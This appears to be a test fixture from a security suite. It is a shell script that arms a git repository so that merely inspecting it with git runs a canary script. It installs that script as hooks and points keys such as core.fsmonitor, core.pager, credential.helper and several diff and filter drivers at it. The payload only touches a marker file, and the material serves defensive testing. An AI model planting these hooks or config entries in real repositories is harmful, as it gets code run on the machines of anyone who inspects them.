# threat: 6
# suite: expensify-common
# verdict: fail tests-failed
# why: The repository executes commands for whoever looks at it with git: hooks, monitor, pager, filters, drivers of diffs.
cat > .git/touch.sh <<'END'
#!/bin/sh
touch @CANARY@ /tmp/executed
cat
END
chmod 755 .git/touch.sh
mkdir -p .git/hooks
for hook in post-checkout post-commit post-index-change pre-commit fsmonitor-watchman reference-transaction; do
    cp .git/touch.sh ".git/hooks/$hook"
done
for key in core.fsmonitor core.pager core.sshCommand core.askPass core.editor diff.external diff.evil.command \
    diff.evil.textconv filter.evil.clean filter.evil.smudge filter.evil.process alias.diff gpg.program credential.helper; do
    git config "$key" /srv/expensify-common/.git/touch.sh
done
git config core.hooksPath /srv/expensify-common/.git/hooks
printf '* filter=evil diff=evil merge=evil\n' > .gitattributes
printf '// evil\n' >> dist/Num.js
